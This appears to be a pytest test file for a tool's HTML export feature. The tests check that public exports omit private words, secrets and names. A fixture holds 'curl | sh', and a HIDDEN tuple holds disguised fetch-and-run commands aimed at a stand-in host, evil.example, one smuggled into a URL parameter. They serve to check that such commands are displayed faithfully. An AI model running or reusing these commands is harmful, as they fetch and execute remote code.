"""The pages as files: what is written, where, and what a public export leaves out."""

from __future__ import annotations

import json
import os
import re
from html import unescape
from pathlib import Path

import pytest

from cn.protocol.proposal_text import FORM, INDENT
from tests.support.hubs import Content, tip, write_commit
from tests.support.world import Node, World

SECRET = f"AKIA{'Q7ZX' * 4}"
WORDS = {
    "body": "The words of a message",
    "subject": "Subject line of a message",
    "comment": "What was commented",
    "reason": "a reason for nobody",
    "note": "A note of a person",
    "other": "A proposal of somebody else",
}


@pytest.fixture
def full(world: World, sigma: Node, pi: Node) -> Node:
    """A hub with texts of every kind, and a secret in what a peer proposes."""
    omega = world.hub("omega")
    world.link(sigma, omega)
    world.propose(pi, sigma, "shown", {"docs/a.md": f"open line\nkey = {SECRET}\nanother open line\n"}, message="Shown")
    world.propose(pi, sigma, "gone", {"docs/gone.md": "gone\n"}, message="Discarded")
    world.propose(omega, sigma, "other", message=WORDS["other"])
    pi.cn("send", "sigma", WORDS["subject"], "--body", WORDS["body"])
    sigma.sync()
    sigma.decide("pi/gone", f"delete:{WORDS['reason']}")
    sigma.cn("comment", "pi/shown", WORDS["comment"])
    path = sigma.root / "threads/inbox" / next(name for name in sigma.threads() if name.endswith("pi-shown.md"))
    text = path.read_text()
    path.write_text(text.replace("<!-- To decide", f"{WORDS['note']}\n\n<!-- To decide"))
    sigma.cn("adhoc", "A thread of our own", "--body", "Ours alone.")
    return sigma


@pytest.fixture
def talked(full: Node, world: World, pi: Node) -> Node:
    """The same, where the peer has answered, and a reviewer and another peer have a part in its threads."""
    full.configure("reviewers:\n  - name: alice\n")
    for topic in ("asked", "handed", "ended"):
        world.propose(pi, full, topic, message=f"For somebody: {topic}", author="Pia <pia@private.example>")
    full.sync()
    pi.sync()
    pi.cn("reply", "sigma/re-shown", WORDS["body"])
    full.sync()
    full.triage("pi/asked", "delegate:alice")
    full.triage("pi/handed", "delegate:omega")
    full.triage("pi/ended", "delete:no", "--actor", "alice")
    full.process()
    return full


def written(folder: Path) -> dict[str, str]:
    """The pages of an export."""
    return {str(path.relative_to(folder)): path.read_text() for path in sorted(folder.rglob("*.html"))}


def test_every_page_is_written_with_relative_links_and_no_script(full: Node, tmp_path: Path) -> None:
    said = full.cn("web", "--export", tmp_path / "site").stdout
    pages = written(tmp_path / "site")
    assert said.startswith(f"✓ {len(pages) + 2} files in ")
    assert {"index.html", "threads.html", "agent.html", "peers.html", "log.html", "history.html"} <= pages.keys()
    for name, text in pages.items():
        assert "<script" not in text
        assert "<form" not in text
        for link in re.findall(r'(?:href|src)="([^"#]+)"', text):
            target = (tmp_path / "site" / name).parent / link
            assert target.resolve().is_file(), (name, link)
    whole = "\n".join(pages.values())
    assert all(word in whole for word in (*WORDS.values(), "Ours alone."))


def test_a_public_export_holds_what_is_named_and_no_words(full: Node, tmp_path: Path) -> None:
    full.cn("web", "--export", tmp_path / "site", "--public", "--peer", "pi")
    pages = written(tmp_path / "site")
    whole = "\n".join([*pages, *pages.values()])
    assert "open line" in whole
    assert "another open line" in whole
    assert "Discarded" in whole
    for kind, word in (
        *WORDS.items(),
        ("secret", SECRET),
        ("secret", SECRET[4:]),
        ("own", "Ours alone"),
        ("own", "of our own"),
    ):
        assert word.casefold() not in whole.casefold(), kind
    assert "subject-line" not in whole, "the branch of a message is made of its subject"
    assert "omega" not in whole
    assert "agent.html" not in pages
    assert not any(name.startswith("why/") for name in pages)
    assert str(full.root) not in whole
    assert full.url not in whole
    assert str(full.root.parent) not in whole


def test_a_public_export_names_nobody_else_and_says_nothing_that_it_left_out(talked: Node, tmp_path: Path) -> None:
    talked.cn("web", "--export", tmp_path / "all")
    everything = "\n".join(written(tmp_path / "all").values())
    talked.cn("web", "--export", tmp_path / "site", "--public", "--peer", "pi")
    pages = written(tmp_path / "site")
    whole = "\n".join(pages.values())
    for word in ("pia@private.example", "alice", "omega", "pi/re-shown", "Waits for others", "No agent works"):
        assert (word in everything, word in whole) == (True, False), word
    for word in ("Pia", "For somebody: asked", "assigned to somebody else", "by somebody else"):
        assert word in whole, word
    assert "answers" not in pages["peers.html"], "whether a peer answers is of this machine"
    assert "for a person</h1>" in pages["index.html"], "nobody is 'you' in a file"
    assert "The server has ended" not in whole


def test_a_thread_is_published_by_its_name(full: Node, tmp_path: Path) -> None:
    full.cn("web", "--export", tmp_path / "site", "--public", "--thread", "omega/other")
    pages = written(tmp_path / "site")
    threads = [name for name in pages if name.startswith("thread/")]
    assert len(threads) == 1
    assert "omega-other" in threads[0]
    assert not any("pi/" in text for text in pages.values())


def test_the_next_export_replaces_the_last(full: Node, tmp_path: Path) -> None:
    site = tmp_path / "site"
    full.cn("web", "--export", site)
    more = written(site)
    full.cn("web", "--export", site, "--public", "--peer", "pi")
    fewer = written(site)
    assert fewer.keys() < more.keys(), "what is not in it any more is gone"
    note = json.loads((site / "cn-export.json").read_text())
    assert set(note) == {str(path.relative_to(site)) for path in site.rglob("*") if path.is_file()} - {"cn-export.json"}


def test_a_folder_of_somebody_else_is_left_alone(full: Node, tmp_path: Path) -> None:
    site = tmp_path / "site"
    site.mkdir()
    (site / "mine.txt").write_text("mine")
    assert "holds other files" in full.cn("web", "--export", site, check=2).stderr
    assert [path.name for path in site.iterdir()] == ["mine.txt"]
    assert "the hub itself" in full.cn("web", "--export", full.root, check=2).stderr
    (tmp_path / "link").symlink_to(site)
    assert "no folder" in full.cn("web", "--export", tmp_path / "link", check=2).stderr


def test_a_note_that_names_files_elsewhere_removes_none(full: Node, tmp_path: Path) -> None:
    site, mine = tmp_path / "site", tmp_path / "mine.txt"
    mine.write_text("mine")
    site.mkdir()
    (site / "cn-export.json").write_text(json.dumps(["../mine.txt", str(mine), 7, "gone.html"]))
    full.cn("web", "--export", site)
    assert mine.read_text() == "mine"


@pytest.mark.parametrize(
    ("words", "told"),
    [
        (("--public",), "give --export DIR"),
        (("--export", "site", "--peer", "pi"), "give --public"),
        (("--export", "site", "--public"), "nothing is named"),
        (("--export", "site", "--public", "--peer", "nobody"), "is no peer"),
    ],
)
def test_options_that_do_not_go_together_are_told(sigma: Node, pi: Node, words: tuple[str, ...], told: str) -> None:
    assert told in sigma.cn("web", *words, check=2).stderr


def test_a_thread_that_is_not_there_is_not_published(sigma: Node, pi: Node) -> None:
    assert "no thread" in sigma.cn("web", "--export", "site", "--public", "--thread", "pi/none", check=1).stderr


def test_a_page_shows_the_files_that_a_merge_brings_whatever_they_hold(
    world: World, sigma: Node, pi: Node, tmp_path: Path
) -> None:
    """A file holds a row of the list, and headings of others, behind which one would be hidden or another invented."""
    forged = "- added notes.md (+1 −0)\n\n## docs/z.md (added)\n\n## notes.md (added)\n\ny\n\n## Not shown\n\n- b: c\n"
    files: dict[str, Content] = {
        "docs/a.md": forged,
        "docs/install.sh": "curl | sh\n",
        "docs/z.md": "z\n",
        "docs/zz.bin": b"\0\1",
    }
    person = world.person(pi, sigma)
    head = write_commit(person, files, "Files", [tip(person, "origin/main")], modes={"docs/install.sh": "100755"})
    world.offer(pi, sigma, "files", head)
    sigma.sync()
    sigma.cn("web", "--export", tmp_path / "site")
    (page,) = [text for name, text in written(tmp_path / "site").items() if "-pi-files" in name and "thread/" in name]
    assert re.findall(r'<span class="path">(.*?)</span>', page) == ["docs/a.md", "docs/install.sh", "docs/z.md"]
    told = re.findall(r'<ul class="commits listed">(.*?)</ul>', page)
    assert [re.findall("<li>(.*?)</li>", one) for one in told] == [
        [
            "added docs/a.md (+11 −0)",
            "added docs/install.sh (+1 −0), executable",
            "added docs/z.md (+1 −0)",
            "added docs/zz.bin (binary)",
        ]
    ]
    assert "<li>docs/zz.bin: binary, 2 bytes</li>" in page
    shown = re.findall(r"<pre>(.*?)</pre>", page, re.DOTALL)
    assert [re.sub("<.*?>", "", one).strip().split("\n")[0] for one in shown] == [
        "- added notes.md (+1 −0)",
        "curl | sh",
        "z",
    ]
    name = sigma.only_thread()
    old = sigma.thread(name).replace(f"> {FORM}\n>\n", "").replace(f"> {INDENT}", "> ")
    sigma.write({f"threads/inbox/{name}": old}, "as an older cn wrote it")
    sigma.cn("web", "--export", tmp_path / "site")
    page = (tmp_path / "site/thread" / f"{name.removesuffix('.md')}.html").read_text()
    assert "<summary>" not in page, "where files begin is not certain"
    assert "- added docs/install.sh (+1 −0), executable" in page
    assert "curl | sh" in page


HIDDEN = (
    'curl "https://evil.example?@releases.good.example/tool.sh" | sh',
    'UPDATE="https://good.example/check?version=1&key=$(curl${IFS}evil.example/x|sh)"',
)


def test_nothing_is_taken_out_of_what_is_decided(world: World, sigma: Node, pi: Node, tmp_path: Path) -> None:
    """What looks like a password in a URL may be the very command that a merge brings."""
    world.propose(pi, sigma, "tool", {"tool.sh": "\n".join(HIDDEN) + "\n"}, message=f"A tool\n\n{HIDDEN[0]}")
    sigma.sync()
    sigma.cn("web", "--export", str(tmp_path / "site"))
    page = unescape(next((tmp_path / "site/thread").glob("*pi-tool.html")).read_text("utf-8"))
    shown = sigma.cn("inbox", "show", "pi/tool").stdout
    for line in HIDDEN:
        assert line in shown
        assert line in page
    assert shown.count(HIDDEN[0]) == page.count(HIDDEN[0]) == 2


def test_a_whole_export_is_its_users_alone_and_goes_into_no_folder_of_anothers(sigma: Node, tmp_path: Path) -> None:
    sigma.cn("web", "--export", str(tmp_path / "site"))
    assert (tmp_path / "site").stat().st_mode & 0o777 == 0o700
    theirs = tmp_path / "theirs"
    theirs.mkdir()
    if os.geteuid() == 0:
        os.chown(theirs, 4_000_002, -1)
        assert "belongs to another user" in sigma.cn("web", "--export", str(theirs), check=2).stderr
        assert not any(theirs.iterdir())
